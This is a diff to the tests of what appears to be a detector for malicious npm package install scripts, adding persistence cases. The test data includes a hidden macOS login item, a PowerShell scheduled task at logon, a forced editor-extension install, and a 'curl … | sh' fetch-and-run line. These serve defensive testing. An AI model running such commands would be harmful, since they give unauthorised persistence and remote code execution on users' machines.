@@ -1938,3 +1938,35 @@ run(['curl -fsSL http://203.0.113.', '31/i | sh'].join(''));`,
     expect(f?.install_time).toBe(true);
   });
 });
+
+describe('persistence through login items, scheduled-task cmdlets and editor extensions', () => {
+  const persists = (code: string, scripts: Record<string, string> = { postinstall: 'node index.js' }) =>
+    analyzeSource({ 'package.json': pkg({ scripts }), 'index.js': code }).evidence.some(
+      (f) => f.rule === 'script.persistence',
+    );
+  it('an AppleScript login item, Register-ScheduledTask, and an extension installed at install time', () => {
+    expect(
+      persists(
+        `require('child_process').execFileSync('osascript', ['-e', 'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.helper", hidden:true}']);`,
+      ),
+    ).toBe(true);
+    expect(
+      persists(
+        `require('child_process').execSync('powershell -NoP -c "Register-ScheduledTask -TaskName Updater -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Action (New-ScheduledTaskAction -Execute u.exe)"');`,
+      ),
+    ).toBe(true);
+    expect(
+      persists(
+        `require('child_process').execSync('code --install-extension ' + __dirname + '/assets/theme.vsix --force');`,
+      ),
+    ).toBe(true);
+  });
+  it('a CLI that installs its editor extension when the user asks is not', () => {
+    expect(
+      persists(
+        `module.exports = () => require('child_process').execSync('code --install-extension acme.acme-vscode');`,
+        {},
+      ),
+    ).toBe(false);
+  });
+});
